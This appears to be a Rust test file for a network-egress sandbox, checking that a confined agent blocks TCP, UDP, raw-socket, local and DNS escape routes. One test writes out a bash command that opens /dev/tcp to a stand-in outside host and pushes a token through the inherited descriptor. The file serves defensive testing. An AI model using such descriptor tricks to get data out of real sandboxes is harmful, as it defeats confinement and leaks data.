//! Ways out, family by family. `probe list` names them.

use std::{fs, time::Duration};

use anyhow::{Result, ensure};
use egress_tests::{
    agent::{policy, unconfined},
    probe, process, programs, token,
    vectors::try_all,
    world::World,
    zone,
};

const LIMIT: Duration = Duration::from_secs(20);

#[test]
fn streams() -> Result<()> {
    try_all(&World::new()?, probe::TCP)
}

#[test]
fn datagrams() -> Result<()> {
    try_all(&World::new()?, probe::UDP)
}

#[test]
fn other_sockets() -> Result<()> {
    try_all(&World::new()?, probe::BELOW)
}

#[test]
fn through_the_same_host() -> Result<()> {
    try_all(&World::new()?, probe::LOCAL)
}

#[test]
fn through_the_name_service() -> Result<()> {
    try_all(&World::new()?, probe::NAMES)
}

/// No hook sees a descriptor that was open before: the launcher has to close it.
#[test]
fn an_inherited_connection() -> Result<()> {
    let world = World::new()?;
    let open = format!("exec 3<>/dev/tcp/{}/9999 && exec \"$@\"", zone::STRANGER);
    for confined in [false, true] {
        let token = token::new();
        let mut command = world.command("/bin/bash");
        command.args(["-c", &open, "open"]);
        if confined && !unconfined() {
            let file = world.path("policy.yaml");
            fs::write(&file, policy("inherits", &[]))?;
            command
                .arg(programs::agent()?)
                .args(["run", "--user", "65534", "--policy"])
                .arg(&file)
                .arg("--");
        }
        command.args([
            "/bin/bash",
            "-c",
            &format!("sleep 0.1; echo {token} >&3; echo tried"),
        ]);
        let outcome = process::run(command, LIMIT)?;
        ensure!(outcome.text().contains("tried"), "{outcome:?}");
        world.fence()?;
        let delivered = !world.sightings(&token)?.is_empty();
        ensure!(
            delivered != confined,
            "confined: {confined}, delivered: {delivered}: {outcome:?}"
        );
    }
    Ok(())
}
